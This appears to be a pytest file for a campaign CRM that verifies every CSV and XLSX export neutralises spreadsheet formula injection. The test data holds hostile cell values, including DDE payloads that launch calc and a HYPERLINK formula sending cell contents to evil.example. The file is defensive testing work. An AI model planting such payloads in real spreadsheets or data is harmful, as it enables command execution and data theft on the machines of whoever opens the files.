"""Formula injection (issue #22): every CSV/XLSX export route, through the real server, writes
``=…``, ``+…``, ``-…``, ``@…`` texts as inert text. A new export route fails the inventory
test until it is added here."""

from __future__ import annotations

import csv
import inspect
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from circo.config import Settings
from circo.core.service import get_campaign
from circo.core.spreadsheet import FORMULA_TRIGGERS, safe_cell
from circo.core.tenancy import system_context
from circo.crm.contacts import create_contact
from circo.crm.events import create_event, invite_contact
from circo.crm.schemas import ContactCreate, EventCreate, SegmentFilter
from circo.crm.segments import create_segment
from circo.elections.importing import import_results
from circo.field.models import Visit
from circo.finance.account import setup_account
from circo.finance.donations import DonationIn, record_donation
from circo.runtime import open_runtime
from circo.web.app import create_app
from tests.elections.sample_files import rhone_bytes
from tests.server import LiveServer, init_campaign
from tests.web.test_tenancy import all_api_routes

SLUG = "camp-export"
HOSTILE = {
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": '+HYPERLINK("http://evil.example/?d="&A1;"x")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "polling_station": "-2+3+cmd|' /C calc'!A0",
}
TARGET = "election=pres-2017:1&territory=dep:69&candidate=macron"
# path of the route → URL fetched in the test (every CSV/XLSX export of the application)
EXPORTS = {
    "/c/{slug}/segments/{segment_id}/export.{fmt}": [
        f"/c/{SLUG}/segments/{{segment}}/export.csv",
        f"/c/{SLUG}/segments/{{segment}}/export.xlsx",
    ],
    "/c/{slug}/field/export.csv": [f"/c/{SLUG}/field/export.csv"],
    "/c/{slug}/targeting/export.csv": [f"/c/{SLUG}/targeting/export.csv?{TARGET}"],
    "/c/{slug}/events/{event_id}/export.{fmt}": [
        f"/c/{SLUG}/events/{{event}}/export.csv",
        f"/c/{SLUG}/events/{{event}}/export.xlsx",
    ],
    "/c/{slug}/finance/export.xlsx": [f"/c/{SLUG}/finance/export.xlsx"],
    "/c/{slug}/night/export.csv": [f"/c/{SLUG}/night/export.csv?election=pres-2017&round=1"],
    "/c/{slug}/night/log.csv": [f"/c/{SLUG}/night/log.csv?election=pres-2017&round=1"],
    # Pages that also answer CSV (output=csv) of what the page computed: their texts go through
    # `safe_cell` (`scenarios.rows_csv`, `experiment_page.assignments_csv`); no URL: need a fit.
    "/c/{slug}/targeting/scenario": [],
    "/c/{slug}/targeting/experiment": [],
}
SPREADSHEET_MARKERS = (
    "text/csv",
    "spreadsheetml",
    "render_export",
    "rows_to_csv",
    "xlsx_bytes",
    "csv_text",
)


def test_every_spreadsheet_export_route_is_covered(settings: Settings) -> None:
    exporting = {
        route.path
        for route in all_api_routes(create_app(settings).routes)
        if any(marker in inspect.getsource(route.endpoint) for marker in SPREADSHEET_MARKERS)
    }
    assert exporting == set(EXPORTS), "add the new export route to EXPORTS in this test"


def _seed(settings: Settings, tmp_path: Path) -> tuple[int, int]:
    runtime = open_runtime(settings)
    try:
        with runtime.session() as session:
            ctx = system_context(get_campaign(session, SLUG))
            contact = create_contact(
                session, ctx, data=ContactCreate(**HOSTILE, tags=["=1+1", "@cmd"])
            )
            event = create_event(
                session,
                ctx,
                data=EventCreate(
                    kind="meeting", title="Réunion", starts_at=datetime(2027, 3, 2, 18, tzinfo=UTC)
                ),
            )
            invite_contact(session, ctx, event_id=event.id, contact_id=contact.id, status="yes")
            setup_account(
                session,
                ctx,
                election="leg-2027",
                population=100_000,
                first_round=date.today() + timedelta(days=150),
            )
            record_donation(
                session,
                ctx,
                DonationIn(
                    amount_cents=1_000,
                    method="cheque",
                    received_on=date.today(),
                    first_name=HOSTILE["first_name"],
                    last_name=HOSTILE["last_name"],
                    nationality="FR",
                ),
            )
            segment = create_segment(session, ctx, name="Tout le monde", filters=SegmentFilter())
            session.add(
                Visit(
                    campaign_id=ctx.campaign_id,
                    idempotency_key="k-1",
                    bureau="=1+1",
                    door="@SUM(A1)+cmd|' /C calc'!A0",
                    outcome="absent",
                    visited_at=datetime(2027, 3, 1, 10, tzinfo=UTC),
                )
            )
            lines = rhone_bytes(1).splitlines(keepends=True)
            (tmp_path / "rhone.csv").write_bytes(b"".join(lines[:11]))
            import_results(session, path=tmp_path / "rhone.csv", key="pres-2017", round_number=1)
            session.commit()
            return segment.id, event.id
    finally:
        runtime.close()


def _cells(body: bytes, url: str) -> list[str]:
    if url.endswith(".xlsx"):
        workbook = load_workbook(io.BytesIO(body))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), "a cell was written as a formula"
        return [str(cell.value) for cell in cells if cell.value is not None]
    text = body.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def test_exports_neutralise_formulas(settings: Settings, tmp_path: Path) -> None:
    email, password = init_campaign(settings, SLUG)
    segment_id, event_id = _seed(settings, tmp_path)
    server = LiveServer(settings, tmp_path / "server.log")
    server.start()
    try:
        with server.client() as client:
            server.login(client, email, password)
            for urls in EXPORTS.values():
                for template in urls:
                    url = template.format(segment=segment_id, event=event_id)
                    response = client.get(url)
                    assert response.status_code == 200, (url, response.text[:300])
                    cells = _cells(response.content, url.split("?")[0])
                    assert len(cells) > 5, url
                    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
                    if not url.endswith(".xlsx"):
                        assert live == [], (url, live)
                    expected = {
                        "segments": [*HOSTILE.values(), "=1+1, @cmd"],
                        "field": ["=1+1", "@SUM(A1)+cmd|' /C calc'!A0"],
                        "targeting": [],
                        "events": [HOSTILE["first_name"], HOSTILE["last_name"]],
                        "finance": [HOSTILE["first_name"], HOSTILE["last_name"]],
                        "night": [],
                    }[url.split("/")[3]]
                    for value in expected:
                        shown = value if url.endswith(".xlsx") else safe_cell(value)
                        assert shown in cells, (url, value)
    finally:
        server.kill()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Lyon", "Lyon"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
